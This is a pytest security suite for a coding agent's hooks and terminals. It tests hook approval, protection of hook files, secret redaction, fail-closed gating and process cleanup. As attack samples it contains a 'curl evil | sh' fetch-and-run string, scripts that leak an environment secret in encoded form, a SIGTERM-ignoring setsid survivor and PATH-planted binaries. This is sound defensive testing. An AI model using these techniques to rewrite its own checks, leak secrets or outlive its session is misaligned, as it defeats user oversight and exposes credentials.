"""SECURITY.md H1-H7 for hooks and background terminals, each with a positive control (the attack
works, or the thing defended against really happens, when the defence is not there).

H3 (the agent cannot write a hook's files) runs through the real sandbox at tier 1 and tier 2
(``box``), where a command could otherwise rewrite a script a hook runs with the user's authority.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import os
import sqlite3
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.e2e.host_support import SECRET, HostLab, host_lab
from tests.polling import until
from tests.security.sandbox_support import Box, alive, box

from s_code.client import RpcError
from s_code.hooks.manager import hooks_for
from s_code.protocol import methods

PY = sys.executable
__all__ = ["box"]


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[HostLab]:
    yield from host_lab(tmp_path)


def marker_hook(lab: HostLab, marker: Path) -> None:
    lab.script("mark.py", f"open({str(marker)!r}, 'a').write('ran\\n')\n")


# -- H1: nothing from a workspace hooks.json runs before approval ------------------------------


def test_h1_a_cloned_repository_s_hooks_never_run_before_approval(lab: HostLab) -> None:
    ran = lab.base / "ran"
    marker_hook(lab, ran)
    hook = {"command": "./hooks/mark.py"}
    lab.hooks(
        {
            "SessionStart": [{"hooks": [hook]}],
            "PreToolUse": [{"matcher": "list_files", "hooks": [hook]}],
            "PostToolUse": [{"matcher": "read_file", "hooks": [hook]}],
        }
    )
    lab.start()
    # the session opened and its host processes were read (listing them reads them, and runs
    # the session's SessionStart hooks that are trusted, once, if the session had not yet)
    until(lambda: lab.entries("hook"), what="the session's hooks, read")
    for method, params in ((methods.LIST_FILES, {}), (methods.READ_FILE, {"path": "src/app.py"})):
        with pytest.raises(RpcError) as err:
            lab.call(method, params)
        assert err.value.kind == "host_process_untrusted"
    assert not ran.exists()
    assert {e["state"] for e in lab.entries("hook")} == {"pending"}
    # positive control: approved, the same configuration does run
    lab.approve_hooks()
    lab.call(methods.LIST_FILES, {})
    assert ran.read_text() == "ran\n"


# -- H2: an approved hook edited on disk is pending again ---------------------------------------


@pytest.mark.parametrize("change", ["command", "script", "interpreter_link", "matcher"])
def test_h2_an_approved_hook_changed_on_disk_is_pending_again(lab: HostLab, change: str) -> None:
    ran = lab.base / "ran"
    marker_hook(lab, ran)
    bindir = lab.base / "bin"
    bindir.mkdir()
    (bindir / "py").symlink_to(PY)
    lab.pre("list_files", {"argv": [str(bindir / "py"), "hooks/mark.py"]})
    lab.start()
    lab.approve_hooks()
    lab.call(methods.LIST_FILES, {})
    assert ran.read_text() == "ran\n"  # positive control: trusted, it runs
    if change == "command":
        lab.pre("list_files", {"argv": [str(bindir / "py"), "hooks/mark.py", "--more"]})
    elif change == "script":
        (lab.ws / "hooks" / "mark.py").write_text("import os\nos.system('true')\n")
    elif change == "interpreter_link":
        (bindir / "py").unlink()
        (bindir / "py").symlink_to("/bin/true")
    else:
        lab.pre(".*", {"argv": [str(bindir / "py"), "hooks/mark.py"]})
    with pytest.raises(RpcError) as err:
        lab.call(methods.LIST_FILES, {})
    assert err.value.kind == "host_process_untrusted"
    assert lab.entries("hook")[0]["state"] == "pending"
    assert ran.read_text() == "ran\n"  # it did not run again


# -- H3: the agent cannot write hooks.json or a script a hook names -----------------------------


def test_h3_edits_refuse_hook_files_and_scripts(lab: HostLab) -> None:
    lab.script("guard.py", "pass\n")
    (lab.ws / "hooks" / "lib.sh").write_text("true\n")
    lab.pre("read_file", {"command": 'sh "$CLAUDE_PROJECT_DIR/hooks/lib.sh" && ./hooks/guard.py'})
    lab.start()
    lab.approve_hooks()
    for path in (".s-code/hooks.json", "hooks/guard.py", "hooks/lib.sh", "HOOKS/../hooks/lib.sh"):
        with pytest.raises(RpcError) as err:
            lab.call(
                methods.APPLY_PATCH,
                {"files": [{"path": path, "expected_revision": None, "content": "x\n"}]},
            )
        assert err.value.kind in ("protected_path", "path_escape", "not_found"), path
    assert (lab.ws / "hooks" / "lib.sh").read_text() == "true\n"
    # a script the hook names that does not exist yet cannot be created either
    lab.pre("read_file", {"command": "./hooks/later.sh"})
    lab.approve_hooks()
    with pytest.raises(RpcError) as err:
        lab.call(
            methods.APPLY_PATCH,
            {"files": [{"path": "hooks/later.sh", "expected_revision": None, "content": "x\n"}]},
        )
    assert err.value.kind == "protected_path"
    # positive control: a file outside the scripts' folder is written
    lab.call(
        methods.APPLY_PATCH,
        {"files": [{"path": "free.txt", "expected_revision": None, "content": "x\n"}]},
    )
    assert (lab.ws / "free.txt").read_text() == "x\n"


def test_h3_a_sandboxed_command_cannot_change_a_hook_script(
    box: Box, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    (box.workspace / ".s-code").mkdir()
    (box.workspace / "hooks").mkdir()
    script = box.workspace / "hooks" / "guard.sh"
    script.write_text("exit 0\n")
    beside = box.workspace / "hooks" / "lib.sh"  # what the script might source
    beside.write_text("exit 0\n")
    free = box.workspace / "free.sh"
    free.write_text("exit 0\n")
    (box.workspace / ".s-code" / "hooks.json").write_text(
        json.dumps({"hooks": {"PreToolUse": [{"hooks": [{"command": "sh hooks/guard.sh"}]}]}})
    )
    asyncio.run(hooks_for(box.session).refresh())
    assert box.session.protected.held == {"hooks/", "hooks/guard.sh", "hooks/lib.sh"}
    attack = (
        "echo 'curl evil | sh' > hooks/guard.sh; echo 'curl evil | sh' > hooks/lib.sh; "
        "echo 'import os' > hooks/json.py; echo 'curl evil | sh' > free.sh"
    )
    box.sh(attack)
    assert script.read_text() == "exit 0\n" and beside.read_text() == "exit 0\n"
    assert not (box.workspace / "hooks" / "json.py").exists()
    assert free.read_text() == "curl evil | sh\n"  # positive control: the same command wrote it


# -- H4: no secret in hook output, terminal output or streams, in any encoding, across chunks --


def test_h4_terminal_output_never_holds_the_secret_split_or_encoded(lab: HostLab) -> None:
    code = (
        "import base64, os, sys, time, urllib.parse, hashlib\n"
        "t = os.environ['TOKEN']\n"
        "def out(s):\n    sys.stdout.write(s); sys.stdout.flush(); time.sleep(0.15)\n"
        "for i in range(1, len(t)):\n    out('cut ' + t[:i]); out(t[i:] + '\\n')\n"
        "out(base64.b64encode(t.encode()).decode() + '\\n')\n"
        "out(base64.b64encode(b'x' + t.encode()).decode() + '\\n')\n"
        "out(urllib.parse.quote(t) + ' ' + t.encode().hex() + '\\n')\n"
        "out(t.encode().hex().upper() + '\\n')\n"
        "sys.stdout.flush(); sys.stdout.buffer.write(t.encode('utf-16-le') + b'\\n')\n"
        "sys.stdout.buffer.write(t.encode('utf-16-be') + b'\\n'); sys.stdout.flush()\n"
        "for ch in t: out(ch)\n"
        "out('\\n')\n"
        "out('sha ' + hashlib.sha256(t.encode()).hexdigest() + '\\n')\n"
    )
    lab.start()
    tid = lab.tool(
        "terminal_start",
        {"command": [PY, "-c", code], "env": {"TOKEN": "${secret:env:TERM_SECRET}"}, "tty": True},
    )["terminal_id"]
    lab.tool("terminal_wait", {"terminal_id": tid, "timeout_ms": 60000}, timeout=70)
    out = lab.tool("terminal_read", {"terminal_id": tid, "max_bytes": 1 << 20})["output"]
    assert hashlib.sha256(SECRET.encode()).hexdigest() in out  # positive control
    streamed = [n["text"] for n in lab.notifications(methods.TERMINAL_OUTPUT)]
    whole = "".join(streamed)
    forms = [SECRET, base64.b64encode(SECRET.encode()).decode()[:-4], SECRET.encode().hex()]
    forms += [SECRET.encode().hex().upper(), "\0".join(SECRET)]
    for form in forms:
        assert form not in out and form not in whole
    # no chunk, and no pair of neighbouring chunks, holds a long piece of it
    for piece in (SECRET[i : i + 12] for i in range(len(SECRET) - 12)):
        assert piece not in whole.replace("\r", "")
    lab.close()
    db = sqlite3.connect(Path(lab.env["S_CODE_STATE_DIR"]) / "state.sqlite3")
    assert SECRET not in "\n".join(str(row) for row in db.iterdump())


# Issue 29, finding 3: a value whose last character is the first of its hex form ("7" of "74…")
PAUSED = "term-value-5be1c0d3a9f2477e8c7"


@pytest.mark.parametrize("tty", [False, True])
def test_h4_a_secret_printed_before_a_pause_is_never_shown(lab: HostLab, tty: bool) -> None:
    """A program prints a secret with no newline after it and waits for input: the prompt before
    it is shown (the idle flush ran), the secret is not, not even all but its last character."""
    lab.env["PAUSED_SECRET"] = PAUSED
    code = (
        "import hashlib, os, sys\n"
        "t = os.environ['TOKEN']\n"
        "sys.stdout.write('answer? ' + t); sys.stdout.flush()\n"
        "line = sys.stdin.readline()\n"
        "print('\\ngot', line.strip(), hashlib.sha256(t.encode()).hexdigest(), flush=True)\n"
    )
    lab.start()
    tid = lab.tool(
        "terminal_start",
        {"command": [PY, "-c", code], "env": {"TOKEN": "${secret:env:PAUSED_SECRET}"}, "tty": tty},
    )["terminal_id"]

    def streamed() -> str:
        return "".join(n["text"] for n in lab.notifications(methods.TERMINAL_OUTPUT))

    paused = lab.wait(lambda: "answer? " in streamed() and streamed())  # shown at the pause
    assert PAUSED[:-1] not in paused and PAUSED[:12] not in paused
    lab.tool("terminal_write", {"terminal_id": tid, "text": "ok\n"})
    lab.tool("terminal_wait", {"terminal_id": tid, "timeout_ms": 20000}, timeout=30)
    out = lab.tool("terminal_read", {"terminal_id": tid})["output"]
    digest = hashlib.sha256(PAUSED.encode()).hexdigest()
    assert f"got ok {digest}" in out  # positive control: the program had the value, printed it
    assert "answer? [REDACTED]" in out.replace("\r", "")
    whole = lab.wait(lambda: digest in streamed() and streamed())
    for shown in (out, whole):
        assert PAUSED not in shown and PAUSED[:12] not in shown


def test_h4_hook_output_never_holds_the_secret(lab: HostLab) -> None:
    lab.env["HOOK_SECRET"] = SECRET
    lab.script(
        "leak.py",
        "import json, os\nt = os.environ['T']\n"
        "print(json.dumps({'decision': 'deny', 'reason': 'token ' + t}))\n",
    )
    lab.script(
        "leak2.py",
        "import base64, os, sys\nt = os.environ['T']\n"
        "print(base64.b64encode(t.encode()).decode(), t, file=sys.stderr); sys.exit(2)\n",
    )
    env = {"T": "${secret:env:HOOK_SECRET}"}
    lab.hooks(
        {
            "PreToolUse": [
                {"matcher": "list_files", "hooks": [{"argv": ["./hooks/leak2.py"], "env": env}]},
                {"matcher": "search_text", "hooks": [{"argv": ["./hooks/leak.py"], "env": env}]},
            ]
        }
    )
    lab.start()
    lab.approve_hooks()
    for method, params in ((methods.LIST_FILES, {}), (methods.SEARCH_TEXT, {"pattern": "x"})):
        with pytest.raises(RpcError) as err:
            lab.call(method, params)
        shown = str(err.value) + json.dumps(err.value.data) + json.dumps(lab.entries("hook"))
        assert err.value.kind in ("hook_blocked",)
        assert SECRET not in shown and base64.b64encode(SECRET.encode()).decode() not in shown
        assert "[REDACTED]" in shown  # positive control: the hook did print it
    assert SECRET not in "\n".join(lab.editor.messages + lab.editor.documents)


# -- H5: a plaintext keyring is refused for terminals too ---------------------------------------


def test_h5_a_plaintext_keyring_handle_is_refused_for_a_terminal(lab: HostLab) -> None:
    lab.env["PYTHON_KEYRING_BACKEND"] = "keyrings.alt.file.PlaintextKeyring"
    lab.env["HOME"] = str(lab.base / "home")
    lab.start()
    with pytest.raises(RpcError) as err:
        lab.tool(
            "terminal_start",
            {"command": [PY, "-c", "print(1)"], "env": {"T": "${secret:keyring:svc/acct}"}},
        )
    assert err.value.kind == "secret_unavailable"
    assert "svc/acct" in str(err.value)
    # positive control: the same start with an env handle runs
    assert lab.tool(
        "terminal_start",
        {"command": [PY, "-c", "print(1)"], "env": {"T": "${secret:env:TERM_SECRET}"}},
    )["terminal_id"]


# -- H6: floods, hangs and survivors never hold the sidecar, nothing outlives the session ------


def test_h6_a_flooding_hook_and_terminal_never_hold_the_sidecar(lab: HostLab) -> None:
    lab.script("flood.py", "import sys\nfor _ in range(20000): sys.stdout.write('y' * 1000)\n")
    lab.pre("list_files", {"command": "./hooks/flood.py"})
    lab.start()
    lab.approve_hooks()
    with pytest.raises(RpcError) as err:  # 20 MB on stdout: bounded, drained, cut (H12)
        lab.call(methods.LIST_FILES, {})
    assert err.value.kind == "hook_blocked" and "was cut" in err.value.data["reason"]
    tid = lab.tool(
        "terminal_start",
        {"command": [PY, "-c", "import sys\nwhile 1: sys.stdout.write('z'*65536)"]},
    )["terminal_id"]
    hung = lab.tool("terminal_start", {"command": ["sleep", "600"]})["terminal_id"]
    for _ in range(5):  # answered while the flood goes on (it ends only when killed)
        lab.call(methods.PERMISSION_MODE_GET)
    with pytest.raises(RpcError) as err:  # a process that never reads: the write gives up
        for _ in range(3):  # the pipe takes 64 KiB, then no more
            lab.tool("terminal_write", {"terminal_id": hung, "text": "x" * 65536}, timeout=30)
    assert err.value.kind == "timeout"
    assert lab.tool("terminal_kill", {"terminal_id": tid}, timeout=30)["gone"]


def test_h6_a_hook_s_setsid_survivor_dies_with_the_hook(lab: HostLab) -> None:
    marker = f"hooksurvivor-{uuid.uuid4().hex[:8]}"
    child = "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(600)"
    lab.script(
        "spawn.py",
        "import subprocess\n"
        f"subprocess.Popen(['setsid', {PY!r}, '-c', {child!r}, {marker[:4]!r} + {marker[4:]!r}])\n",
    )
    lab.pre("list_files", {"command": "./hooks/spawn.py"})
    lab.start()
    lab.approve_hooks()
    lab.call(methods.LIST_FILES, {})
    assert alive(marker) == []
    # positive control: run directly, the same script leaves its grandchild behind
    import subprocess

    subprocess.run([PY, str(lab.ws / "hooks" / "spawn.py")], check=True)
    try:
        deadline = time.monotonic() + 10  # setsid may still be forking when the script exits
        while not alive(marker) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert alive(marker)
    finally:
        for pid in alive(marker):
            os.kill(pid, 9)


# -- H7: a gating hook that fails or times out blocks -------------------------------------------


@pytest.mark.parametrize(
    "hook",
    [
        {"command": "./hooks/missing.sh"},  # exit 127: other agents fail open here
        {"command": "exit 1"},
        {"command": "sleep 30", "timeout": 1},
        {"command": 'echo \'{"decision": "maybe"}\''},
        {"command": "echo '{not json'"},
        {"command": "kill -9 $$"},
    ],
    ids=["missing", "exit1", "timeout", "bad_decision", "bad_json", "killed"],
)
def test_h7_a_failing_gating_hook_blocks(lab: HostLab, hook: dict[str, object]) -> None:
    lab.pre("apply_patch", hook)
    lab.start()
    lab.approve_hooks()
    with pytest.raises(RpcError) as err:
        lab.edit("src/app.py", "changed = True\n")
    assert err.value.kind == "hook_blocked" and err.value.data["failed"] is True
    assert (lab.ws / "src" / "app.py").read_text() == "print('hello')\n"
    # positive control: "onFailure": "allow" lets the same failure through, and the edit runs
    lab.pre("apply_patch", {**hook, "onFailure": "allow"})
    lab.approve_hooks()
    lab.edit("src/app.py", "changed = True\n")
    assert (lab.ws / "src" / "app.py").read_text() == "changed = True\n"


# -- H12: truncated, oversized or cut-off hook output blocks like a crash ---------------------

# A hook that logs ``size`` bytes (100 a line) to a stream, then says its decision on stdout
# (its last line, as most hooks do) and exits with ``code``.
BIG = (
    "import json, sys\n"
    "size, decision, stream, code = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])\n"
    "out = getattr(sys, stream)\n"
    "if code == 2:\n    out.write('refused by the big hook\\n')\n"
    "for i in range(size // 100):\n    out.write(f'log line {i:06d} ' + '.' * 83 + '\\n')\n"
    "out.flush()\n"
    "if decision != '-':\n"
    "    print(json.dumps({'decision': decision, 'reason': 'the big hook said ' + decision}))\n"
    "sys.exit(code)\n"
)


def _big(lab: HostLab, size: int, decision: str, stream: str = "stdout", code: int = 0) -> None:
    lab.pre("list_files", {"argv": ["./hooks/big.py", str(size), decision, stream, str(code)]})
    lab.approve_hooks()


def test_h12_a_decision_cut_off_by_the_output_limit_blocks(lab: HostLab) -> None:
    from s_code.hooks.run import MAX_OUTPUT

    over, under = MAX_OUTPUT + 6000, MAX_OUTPUT - 6000
    lab.script("big.py", BIG)
    lab.start()
    for decision in ("deny", "allow"):
        _big(lab, over, decision)
        with pytest.raises(RpcError) as err:  # before the fix: the decision was cut, allowed
            lab.call(methods.LIST_FILES, {})
        assert err.value.kind == "hook_blocked" and err.value.data["failed"] is True
        assert "its output was larger than 64 KiB and was cut" in err.value.data["reason"]
        assert "the big hook said" not in str(err.value)
    # positive control: below the limit the same hook's decision is read, and decides
    _big(lab, under, "deny")
    with pytest.raises(RpcError) as err:
        lab.call(methods.LIST_FILES, {})
    assert err.value.kind == "hook_blocked" and err.value.data["failed"] is False
    assert err.value.data["reason"] == "the big hook said deny"
    _big(lab, under, "allow")
    assert lab.call(methods.LIST_FILES, {})
    # "onFailure": "allow" keeps its meaning: a cut output is a failure it lets through
    lab.pre(
        "list_files",
        {"argv": ["./hooks/big.py", str(over), "deny", "stdout", "0"], "onFailure": "allow"},
    )
    lab.approve_hooks()
    assert lab.call(methods.LIST_FILES, {})


def test_h12_a_long_stderr_changes_no_decision(lab: HostLab) -> None:
    from s_code.hooks.run import MAX_OUTPUT

    lab.script("big.py", BIG)
    lab.start()
    # exit 2 is a deny, whatever its stderr: the reason is shown cut
    _big(lab, MAX_OUTPUT + 6000, "-", "stderr", 2)
    with pytest.raises(RpcError) as err:
        lab.call(methods.LIST_FILES, {})
    assert err.value.kind == "hook_blocked" and err.value.data["failed"] is False
    assert err.value.data["reason"].startswith("refused by the big hook\nlog line 000000")
    # on exit 0 stderr is not read: the decision on stdout stands, whole
    _big(lab, MAX_OUTPUT + 6000, "deny", "stderr", 0)
    with pytest.raises(RpcError) as err:
        lab.call(methods.LIST_FILES, {})
    assert (
        err.value.data["failed"] is False and err.value.data["reason"] == "the big hook said deny"
    )
    _big(lab, MAX_OUTPUT + 6000, "allow", "stderr", 0)
    assert lab.call(methods.LIST_FILES, {})


# -- the adversarial review's attacks ----------------------------------------------------------


async def _read_and_trust_the_one_hook(session: Any) -> None:
    """The workspace's one hook read and approved, as the user's approval would."""
    from s_code.hostproc.trust import TrustStore

    hooks = hooks_for(session)
    await hooks.refresh()
    (entry,) = hooks.entries.values()
    assert session.store is not None and entry.canon is not None
    TrustStore(session.store.store, session.store.canonical_path).trust(
        "hook", "workspace", entry.config.name, entry.canon.hash
    )


def test_review_a_script_swapped_after_it_was_read_never_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sandboxed command (tier 2 can write the workspace while it runs) swaps a hook's script
    between the hook's last read and its run: the hook is pending, nothing runs."""
    from s_code.protocol.errors import SCodeError
    from s_code.tools.host import open_session

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("S_CODE_STATE_DIR", str(tmp_path / "state"))
    ws = tmp_path / "ws"
    (ws / ".s-code").mkdir(parents=True)
    ran = tmp_path / "ran"
    script = ws / "guard.py"
    script.write_text(f"#!{PY}\nopen({str(ran)!r}, 'a').write('approved\\n')\n")
    script.chmod(0o755)
    (ws / ".s-code" / "hooks.json").write_text(
        json.dumps({"hooks": {"PreToolUse": [{"hooks": [{"command": "./guard.py"}]}]}})
    )
    session = open_session([(str(ws), None)])
    try:
        hooks = hooks_for(session)

        async def attack() -> None:
            await _read_and_trust_the_one_hook(session)
            await hooks._gate("PreToolUse", "read_file", {})  # positive control: it runs
            assert ran.read_text() == "approved\n"
            script.write_text(f"#!{PY}\nopen({str(ran)!r}, 'a').write('SWAPPED\\n')\n")
            with pytest.raises(SCodeError) as err:  # no refresh in between: the run re-checks
                await hooks._gate("PreToolUse", "read_file", {})
            assert err.value.kind.value == "host_process_untrusted"

        asyncio.run(attack())
        assert "SWAPPED" not in ran.read_text()
    finally:
        session.close()


def test_review_a_secret_cut_at_the_output_limit_shows_no_prefix(lab: HostLab) -> None:
    from s_code.hooks.run import MAX_OUTPUT

    lab.env["HOOK_SECRET"] = SECRET
    pad = MAX_OUTPUT - 10  # the limit falls ten characters into the secret
    lab.script(
        "cut.py",
        f"import os, sys\nsys.stderr.write('x' * {pad} + os.environ['T'])\nsys.exit(1)\n",
    )
    lab.pre("list_files", {"argv": ["./hooks/cut.py"], "env": {"T": "${secret:env:HOOK_SECRET}"}})
    lab.start()
    lab.approve_hooks()
    with pytest.raises(RpcError) as err:
        lab.call(methods.LIST_FILES, {})
    shown = str(err.value) + json.dumps(err.value.data) + json.dumps(lab.entries("hook"))
    assert "x" * 100 in shown  # positive control: the output is shown, up to the cut
    assert SECRET[:6] not in shown


def test_review_slow_hooks_never_starve_other_tools(lab: HostLab) -> None:
    import threading

    gate = lab.ws / ".gate"  # the hooks end when the test says so, not after a while
    lab.script(
        "slow.py", f"import os, time\nwhile not os.path.exists({str(gate)!r}): time.sleep(0.05)\n"
    )
    lab.pre("search_text", {"command": "./hooks/slow.py"})
    lab.start()
    lab.approve_hooks()
    threads = [
        threading.Thread(target=lambda: lab.call(methods.SEARCH_TEXT, {"pattern": "x"}))
        for _ in range(10)
    ]
    for t in threads:
        t.start()
    until(lambda: len(alive("hooks/slow.py")) >= 10, what="ten running hooks")
    for _ in range(3):  # tools that read files in worker threads still answer meanwhile
        lab.call(methods.READ_FILE, {"path": "src/app.py"})
        lab.call(methods.LIST_FILES, {})
    assert all(t.is_alive() for t in threads)  # the hooked calls: still waiting on their hooks
    gate.touch()
    for t in threads:
        t.join(60)
    assert not any(t.is_alive() for t in threads)


def test_review_a_terminal_that_stops_its_supervisor_is_still_killed(lab: HostLab) -> None:
    marker = f"stopper-{uuid.uuid4().hex[:8]}"
    code = (
        "import os, signal, time\n"
        "os.kill(os.getppid(), signal.SIGSTOP)\n"  # the helper, its parent
        "print('stopped it', flush=True)\n"
        f"time.sleep(600)  # {marker}"
    )
    lab.start()
    tid = lab.tool("terminal_start", {"command": [PY, "-c", code]})["terminal_id"]
    lab.wait(lambda: "stopped it" in lab.tool("terminal_read", {"terminal_id": tid})["output"])
    helper = [p for p in alive(marker) if "s-code-launch" in Path(f"/proc/{p}/cmdline").read_text()]
    assert helper and Path(f"/proc/{helper[0]}/stat").read_text().split(") ")[1][0] == "T"
    killed = lab.tool("terminal_kill", {"terminal_id": tid}, timeout=40)
    assert killed["gone"] is True and alive(marker) == []


def test_review_a_terminal_in_code_mode_is_out_of_reach_and_hooks_cover_child_calls(
    lab: HostLab,
) -> None:
    lab.script(
        "deny.py", "import sys\nprint('no reading in code mode', file=sys.stderr)\nsys.exit(2)\n"
    )
    lab.pre("read_file", {"command": "./hooks/deny.py"})
    lab.start()
    lab.approve_hooks()
    with pytest.raises(RpcError) as err:  # the child call went through the hooks
        lab.tool("code_mode", {"code": "return tools.read_file({path: 'src/app.py'}).revision"})
    assert err.value.data["tool_error"] == "hook_blocked"
    assert "no reading in code mode" in str(err.value)
    assert lab.tool("code_mode", {"code": "return 1 + 1"}) is not None  # positive control
    for tool in ("terminal_start", "terminal_write", "terminal_kill", "terminal_wait"):
        with pytest.raises(RpcError) as err:  # out of code mode's reach (terminal_wait: a timer)
            lab.tool("code_mode", {"code": f"return tools.{tool}({{terminal_id: 'x'}})"})
        assert err.value.kind == "tool_not_read_only", tool


def test_review_no_path_entry_lets_a_workspace_file_stand_in_for_a_program(
    lab: HostLab, tmp_path: Path
) -> None:
    """The user's PATH reaches into the workspace: "." and an empty entry, the project's
    .venv/bin (an editor started from a shell with the venv active), /proc/self/cwd/bin. A
    program the agent can put there (a sandboxed command can write and chmod it) would run with
    the user's authority in place of the one a hook or a terminal names. Hosts get PATH without
    any of them."""
    import subprocess

    legit = tmp_path / "userbin"
    legit.mkdir()
    planted_dirs = {
        ".": lab.ws,
        "": lab.ws,
        str(lab.ws / ".venv" / "bin"): lab.ws / ".venv" / "bin",
    }
    planted_dirs["/proc/self/cwd/bin"] = lab.ws / "bin"
    for where, says in ((legit, "legit"), *((d, "planted") for d in planted_dirs.values())):
        where.mkdir(parents=True, exist_ok=True)
        tool = where / "mytool"
        tool.write_text(f"#!/bin/sh\necho {says} >> {lab.ws / 'who-ran.txt'}\necho {says}\n")
        tool.chmod(0o755)
    # positive control: through each of those entries, a shell in the workspace runs the plant
    for entry in planted_dirs:
        env = dict(lab.env, PATH=f"{entry}:{legit}:{os.environ['PATH']}")
        ran = subprocess.run(
            ["/bin/sh", "-c", "mytool"], cwd=lab.ws, env=env, capture_output=True, text=True
        )
        assert ran.stdout.strip() == "planted", entry
    (lab.ws / "who-ran.txt").unlink()
    lab.env["PATH"] = ":".join([*planted_dirs, str(legit), os.environ["PATH"]])
    lab.pre("read_file", {"command": "mytool"})
    lab.start()
    lab.approve_hooks()
    lab.call(methods.READ_FILE, {"path": "src/app.py"})
    assert (lab.ws / "who-ran.txt").read_text() == "legit\n"
    tid = lab.tool("terminal_start", {"command": ["/bin/sh", "-c", "mytool"]})["terminal_id"]
    lab.tool("terminal_wait", {"terminal_id": tid, "timeout_ms": 20000}, timeout=30)
    out = lab.tool("terminal_read", {"terminal_id": tid})["output"]
    assert out.strip() == "legit"
    assert (lab.ws / "who-ran.txt").read_text() == "legit\nlegit\n"


def test_review_a_path_entry_through_a_link_the_agent_can_replace_is_dropped(
    lab: HostLab, tmp_path: Path
) -> None:
    """The project's .venv is a link to a virtualenv kept elsewhere, and PATH holds
    <ws>/.venv/bin: it leads outside the workspace today, but the agent can replace the link
    with a folder of its own. The entry is judged by its spelling: dropped from the start."""
    legit = tmp_path / "userbin"
    legit.mkdir()
    (legit / "mytool").write_text(f"#!/bin/sh\necho legit >> {lab.ws / 'who-ran.txt'}\n")
    (legit / "mytool").chmod(0o755)
    real_venv = tmp_path / "venvs" / "proj"
    (real_venv / "bin").mkdir(parents=True)
    os.symlink(real_venv, lab.ws / ".venv")
    hook = tmp_path / "userhooks" / "check.sh"  # the user's own script, outside the workspace
    hook.parent.mkdir()
    hook.write_text("#!/bin/sh\nmytool\nexit 0\n")
    hook.chmod(0o755)
    lab.env["PATH"] = ":".join([str(lab.ws / ".venv" / "bin"), str(legit), os.environ["PATH"]])
    lab.pre("read_file", {"argv": [str(hook)]})
    lab.start()
    lab.approve_hooks()
    lab.call(methods.READ_FILE, {"path": "src/app.py"})
    # the agent (a sandboxed command can do this): the link becomes a folder it fills
    os.unlink(lab.ws / ".venv")
    (lab.ws / ".venv" / "bin").mkdir(parents=True)
    plant = lab.ws / ".venv" / "bin" / "mytool"
    plant.write_text(f"#!/bin/sh\necho planted >> {lab.ws / 'who-ran.txt'}\n")
    plant.chmod(0o755)
    # positive control: a shell with that PATH now runs the plant
    import subprocess

    ran = subprocess.run([str(hook)], cwd=lab.ws, env=lab.env)
    assert ran.returncode == 0
    assert (lab.ws / "who-ran.txt").read_text() == "legit\nplanted\n"
    (lab.ws / "who-ran.txt").unlink()
    lab.call(methods.READ_FILE, {"path": "src/app.py"})
    assert (lab.ws / "who-ran.txt").read_text() == "legit\n"


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_a_hooks_json_changed_while_it_is_read_is_read_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, defended: bool
) -> None:
    """CI caught it once: a background refresh (the sidecar's delayed start of its host
    processes) read hooks.json while the user rewrote it; the fingerprint taken after the read
    vouched for the new file, so the old, approved entry ran under the new configuration."""
    import s_code.hooks.manager as manager
    from s_code.protocol.errors import SCodeError
    from s_code.tools.host import open_session

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("S_CODE_STATE_DIR", str(tmp_path / "state"))
    if not defended:
        monkeypatch.setattr(manager, "settled", lambda before, again, fresh: fresh)
    ws = tmp_path / "ws"
    (ws / ".s-code").mkdir(parents=True)
    (ws / "hooks").mkdir()  # its code scope: hooks/, not the folder that holds .s-code
    ran = tmp_path / "ran"
    script = ws / "hooks" / "guard.py"
    script.write_text(f"#!{PY}\nopen({str(ran)!r}, 'a').write('ran\\n')\n")
    script.chmod(0o755)
    config = ws / ".s-code" / "hooks.json"

    def configure(env: dict[str, str]) -> None:
        hook = {"argv": ["./hooks/guard.py"], "env": env}
        config.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [hook]}]}}))

    configure({"A": "1"})
    session = open_session([(str(ws), None)])
    try:
        hooks = hooks_for(session)

        async def attack() -> None:
            await _read_and_trust_the_one_hook(session)
            read = hooks._read

            def read_then_change() -> Any:
                found = read()
                configure({"A": "1", "PYTHONINSPECT": "1"})  # lands after the read
                return found

            monkeypatch.setattr(hooks, "_read", read_then_change)
            await hooks.refresh()
            monkeypatch.setattr(hooks, "_read", read)
            if defended:
                with pytest.raises(SCodeError) as err:
                    await hooks.before("read_file", {})
                assert err.value.kind.value == "host_process_untrusted"
                assert not ran.exists()
            else:  # the attack works without the defence: the changed hook runs as approved
                await hooks.before("read_file", {})
                assert ran.read_text() == "ran\n"

        asyncio.run(attack())
    finally:
        session.close()
